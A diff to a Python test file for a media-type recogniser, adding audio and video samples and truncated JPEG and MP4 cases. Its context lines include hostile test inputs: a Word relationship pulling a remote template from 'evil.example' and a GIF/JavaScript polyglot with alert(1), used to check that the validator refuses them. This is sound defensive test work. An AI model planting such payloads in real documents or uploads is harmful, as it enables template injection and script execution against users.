@@ -16,11 +16,13 @@ from binhyen.vault.tests.samples import (
     docx,
     heic,
     mp4,
+    noisy_picture,
     pdf,
     pdf_with_hidden,
     picture,
     png_header,
 )
+from binhyen.vault.tests.sound_samples import opus, wav, webm
 
 REMOTE = (
     '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
@@ -38,6 +40,10 @@ ACCEPTED = {
     "audio/mpeg": MP3,
     "audio/aac": AAC,
     "audio/amr": AMR,
+    "audio/wav": wav(),
+    "audio/ogg": opus(),
+    "audio/webm": webm(),
+    "video/webm": webm(sort=1, codec=b"V_VP8"),
     "application/pdf": PDF,
     "application/msword": DOC,
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document": docx(),
@@ -78,6 +84,9 @@ REFUSED = {
     "picture of 51 million pixels": (png_header(10_000, 5_100), "picture_too_large"),
     "GIF and script at once": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "media_type"),
     "start of a JPEG only": (b"\xff\xd8\xff\xe0" + bytes(30), "media_type"),
+    "JPEG cut at nine tenths": (noisy_picture((200, 150))[:18_000], "media_cut"),
+    "JPEG without its last two bytes and pixels": (noisy_picture((64, 48))[:-40], "media_cut"),
+    "film cut at its end": (mp4()[:-9], "media_cut"),
     "film of an unknown kind": (box(b"ftyp", b"zzzz" + bytes(8)), "media_type"),
     "21 MB": (b"\xff\xd8\xff" + bytes(21 * 1024 * 1024), "media_too_large"),
 }
@@ -98,6 +107,13 @@ def test_refused(name):
     with pytest.raises(NotPossible) as refusal:
         recognise(content)
     assert refusal.value.code == code
+
+
+def test_a_whole_jpeg_with_something_behind_or_without_the_mark_of_its_end_is_taken():
+    whole = noisy_picture((64, 48))
+    assert recognise(whole + b"SEFT of a telephone") == "image/jpeg"
+    without_mark = whole.removesuffix(b"\xff\xd9") + bytes(8)
+    assert recognise(without_mark) == "image/jpeg"
 
 
 def test_a_picture_with_an_archive_behind_it_is_only_a_picture_after_cleaning():
